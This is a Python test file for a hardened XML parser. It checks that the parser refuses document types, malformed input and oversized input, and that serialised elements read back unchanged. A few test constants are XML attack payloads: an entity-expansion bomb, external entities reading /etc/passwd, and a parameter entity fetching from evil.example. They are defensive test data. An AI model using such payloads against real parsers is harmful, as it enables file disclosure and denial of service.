import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from provenance.core.errors import Rejected, TooLarge, UnreadableImage
from provenance.credentials.labels.markup import (
    MAX_BYTES,
    MAX_DEPTH,
    MAX_NAMESPACE,
    MAX_NAMESPACES,
    MAX_NODES,
    XML,
    Element,
    parse,
    serialise,
)

BILLION_LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>"""
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'
EXTERNAL_ENTITY = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
PARAMETER = b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><a/>'


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL, EXTERNAL_ENTITY, PARAMETER, b"<!DOCTYPE a><a/>"])
def test_a_document_type_is_refused_with_all_that_it_could_declare(data):
    with pytest.raises(UnreadableImage, match="document type"):
        parse(data)


@pytest.mark.parametrize(
    "data",
    [b"", b" ", b"<a>", b"<a></b>", b"text", b"<a b='1' b='2'/>", b"<p:a/>", b"<a>&unknown;</a>", b"<a>\x00</a>",
     b"<a>\xff</a>", b'<?xml version="1.0" encoding="no-such"?><a/>', b"<a/><b/>", b"<?xpacket?>"],
)  # fmt: skip
def test_what_is_not_well_formed_is_refused(data):
    with pytest.raises(UnreadableImage):
        parse(data)


def test_bytes_depth_and_nodes_are_bounded():
    with pytest.raises(TooLarge, match="8 MiB"):
        parse(b"<a>" + b" " * MAX_BYTES + b"</a>")
    assert parse(b"<a>" * MAX_DEPTH + b"</a>" * MAX_DEPTH).root.name == ("", "a")
    with pytest.raises(TooLarge, match="inside each other"):
        parse(b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1))
    with pytest.raises(TooLarge, match="elements"):
        parse(b"<a>" + b"<b/>" * MAX_NODES + b"</a>")
    attributes = b" ".join(b'b%d=""' % number for number in range(1_000))
    with pytest.raises(TooLarge, match="elements"):
        parse(b"<a>" + b"<c %s/>" % attributes * 101 + b"</a>")


def test_namespaces_are_few_and_short():
    """expat writes the namespace out in every name: 100,000 elements in one of a megabyte would be 100 gigabytes."""
    long = b'<p:a xmlns:p="%s">' % (b"u" * (MAX_NAMESPACE + 1))
    with pytest.raises(TooLarge, match="namespaces"):
        parse(long + b"<p:b/>" * 100_000 + b"</p:a>")
    many = b"".join(b'<p:b xmlns:p="urn:%d"/>' % number for number in range(MAX_NAMESPACES + 1))
    with pytest.raises(TooLarge, match="namespaces"):
        parse(b"<a>" + many + b"</a>")
    assert parse(b"<a>" + many[: many.rindex(b"<")] + b"</a>").prefixes["urn:0"] == "p"


def test_the_prefix_of_a_name_does_not_matter():
    one = parse(b'<p:a xmlns:p="urn:x" p:b="1">t</p:a>').root
    other = parse(b'<q:a xmlns:q="urn:x" q:b="1">t</q:a>').root
    assert one == other == Element(("urn:x", "a"), {("urn:x", "b"): "1"}, ["t"])


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be", "latin-1"])
def test_encodings_that_xml_knows_are_read(encoding):
    declared = f'<?xml version="1.0" encoding="{"iso-8859-1" if encoding == "latin-1" else encoding[:6]}"?><a>é</a>'
    data = declared.encode(encoding)
    assert parse(b"\xfe\xff" + data if encoding == "utf-16-be" else data).root.text == "é"


def test_white_space_between_elements_is_layout_and_inside_texts_it_is_not():
    root = parse(b"<a>\n  <b> x\n </b>\n</a>").root
    assert root.children == [Element(("", "b"), {}, [" x\n "])]


names = st.sampled_from(["a", "b", "Creator"])
spaces = st.sampled_from(["", "urn:one", "urn:two", "urn:three & <four>", XML])
texts = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"], exclude_characters="\ufffe\uffff"), max_size=8
)
any_text = st.one_of(texts, st.sampled_from(["\n", "\t", "a\rb", '"', "]]>", "&lt;"]))
elements = st.recursive(
    st.builds(Element, st.tuples(spaces, names), st.dictionaries(st.tuples(spaces, names), any_text, max_size=3),
              st.lists(any_text.filter(bool), max_size=1)),
    lambda inner: st.builds(Element, st.tuples(spaces, names), st.just({}), st.lists(inner, min_size=1, max_size=3)),
    max_leaves=8,
)  # fmt: skip


@given(
    elements,
    st.dictionaries(st.sampled_from(["urn:one", "urn:two", XML]), st.sampled_from(["p", "xml", "XMLa", "ns1", "ns0"])),
)
def test_what_is_written_is_read_back_whatever_the_prefixes(element, prefixes):
    written = serialise(element, prefixes)
    assert parse(written.encode()).root == element
    assert serialise(element, prefixes) == written


@given(st.binary(max_size=200) | st.text("<>/ab=\"'&;!x ", max_size=60).map(str.encode))
def test_no_bytes_break_the_parser(data):
    with contextlib.suppress(Rejected):
        assert isinstance(parse(data).root, Element)
